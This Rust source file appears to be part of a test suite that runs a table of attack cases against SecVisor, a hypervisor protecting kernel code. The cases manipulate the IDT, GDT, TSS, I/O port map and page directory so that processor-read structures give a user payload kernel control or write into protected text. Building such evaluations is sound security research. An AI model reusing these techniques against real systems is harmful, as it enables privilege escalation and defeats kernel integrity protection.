//! SecVisor's memory as what the processor itself reads: descriptor tables, task state, page tables,
//! the map of ports. Without SecVisor the same rows run with an ordinary frame.

use super::entry::user_payload;
use super::hidden::hidden;
use super::{Act, Attack, Plan};
use crate::arch::{GATE_BYTES, map_directory};
#[cfg(target_arch = "x86")]
use crate::arch::{OTHER_TSS, set_task};
use crate::memory::{self, MARKER, PAGE, RW, URW, WINDOW, clear, copy, poke, poke32};
use crate::tables::{self, CALL, CALL_GATE, OPEN, load_gdt, load_idt, move_tss};
use crate::trap::{Frame, KERNEL_CS, symbol};

/// Two pages of the window: an ordinary frame below the target.
fn map_below(target: u64) -> u64 {
    memory::map(0, symbol!(bss_payload), RW);
    memory::map(1, target, RW);
    WINDOW + PAGE
}

/// Bytes of a TSS: of all that is used, and up to what follows the entry stack.
const TSS_BYTES: u64 = 104;
const FRONT: u64 = 12;
/// The entry stack's segment, which follows the stack itself where there is one.
const ENTRY_SEGMENT: u64 = if GATE_BYTES == 8 { 0x18 << 32 } else { 0 };
/// Where there is room for stacks in the victim's page.
#[cfg(target_arch = "x86")]
const STACKS: u64 = 0x400;
/// Where the descriptor in text says that there is a TSS.
const LOW_TSS: u64 = 0xA000;
/// COM1's line status: harmless to read.
const PORT: u64 = 0x3FD;

/// The rows.
pub const ROWS: &[Attack] = &[
    Attack {
        name: "hidden-idt",
        // The gates from 80h on; what SecVisor answers with is in front.
        plan: |options| {
            let payload = user_payload();
            let half = 0x80 * GATE_BYTES;
            let target = hidden(options, |page| {
                copy(symbol!(idt) + half, page, 4 * GATE_BYTES);
                tables::gate(page + 2 * GATE_BYTES, payload, KERNEL_CS, OPEN);
            });
            let page = map_below(target);
            copy(symbol!(idt), page - half, half);
            load_idt(page - half);
            Plan::user(target, symbol!(u_int82))
        },
    },
    Attack {
        name: "hidden-gdt",
        // The descriptors from the call gate on.
        plan: |options| {
            let payload = user_payload();
            let target = hidden(options, |page| tables::gate(page, payload, KERNEL_CS, CALL));
            let page = map_below(target);
            copy(symbol!(gdt), page - CALL_GATE, CALL_GATE);
            load_gdt(page - CALL_GATE);
            Plan::user(target, symbol!(u_call_gate))
        },
    },
    #[cfg(target_arch = "x86_64")]
    HIDDEN_TSS,
    Attack {
        name: "hidden-port-map",
        plan: |options| {
            let target = hidden(options, |page| clear(page, PAGE));
            let tss = map_below(target) - TSS_BYTES;
            copy(symbol!(tss), tss, TSS_BYTES);
            poke32(tss + 100, (TSS_BYTES << 16) as u32);
            move_tss(tss, PAGE - 1);
            let di = memory::map(2, symbol!(witness), URW);
            let frame = Frame { di, dx: PORT, ..Frame::user(symbol!(u_port_then_store)) };
            Plan { act: Act::User(frame), ..Plan::user(target, 0) }
        },
    },
    Attack {
        name: "hidden-page-directory",
        plan: |options| {
            memory::map(0, symbol!(bss_payload), RW);
            poke(symbol!(bss_payload), MARKER);
            let target = hidden(options, |page| poke(page, symbol!(pt_window) | RW));
            Plan::call(target, symbol!(read_marker), map_directory(target))
        },
    },
    Attack {
        name: "busy-text",
        // LTR marks a descriptor that lies in text.
        plan: |_| {
            let gdt = map_below(symbol!(victim)) - CALL_GATE;
            copy(symbol!(gdt), gdt, CALL_GATE);
            load_gdt(gdt);
            let descriptor = symbol!(victim_descriptor) + 8;
            copy(symbol!(tss), LOW_TSS, TSS_BYTES);
            let selector = CALL_GATE + descriptor % PAGE;
            Plan::call(descriptor, symbol!(load_task), selector).at_target()
        },
    },
    #[cfg(target_arch = "x86")]
    Attack {
        name: "task-state-text",
        // A task switch leaves the registers in a TSS that lies in text.
        plan: |_| {
            let tss = memory::map(0, symbol!(victim), RW) + STACKS;
            set_task(symbol!(other_tss), symbol!(gate_entry));
            move_tss(tss, TSS_BYTES - 1);
            let target = symbol!(victim) + STACKS + 32;
            Plan::call(target, symbol!(jump_to_task), OTHER_TSS).at_target()
        },
    },
];

/// Where the double fault is a task, a TSS that cannot be written to leaves nothing to recover by.
#[cfg(target_arch = "x86")]
pub const FATAL: &[Attack] = &[HIDDEN_TSS];

const HIDDEN_TSS: Attack = Attack {
    name: "hidden-tss",
    // The entry stack, in the last bytes of the page; without SecVisor its address is heeded.
    plan: |options| {
        let stack = symbol!(witness) + 0xF00;
        let target = hidden(options, |page| poke(page + PAGE - 8, stack | ENTRY_SEGMENT));
        clear(symbol!(witness), PAGE);
        memory::map(0, target, RW);
        let rest = memory::map(1, symbol!(bss_payload), RW);
        copy(symbol!(tss) + FRONT, rest, TSS_BYTES - FRONT);
        move_tss(rest - FRONT, TSS_BYTES - 1);
        Plan { witness: stack - 64, ..Plan::user(target, symbol!(u_int80)) }
    },
};
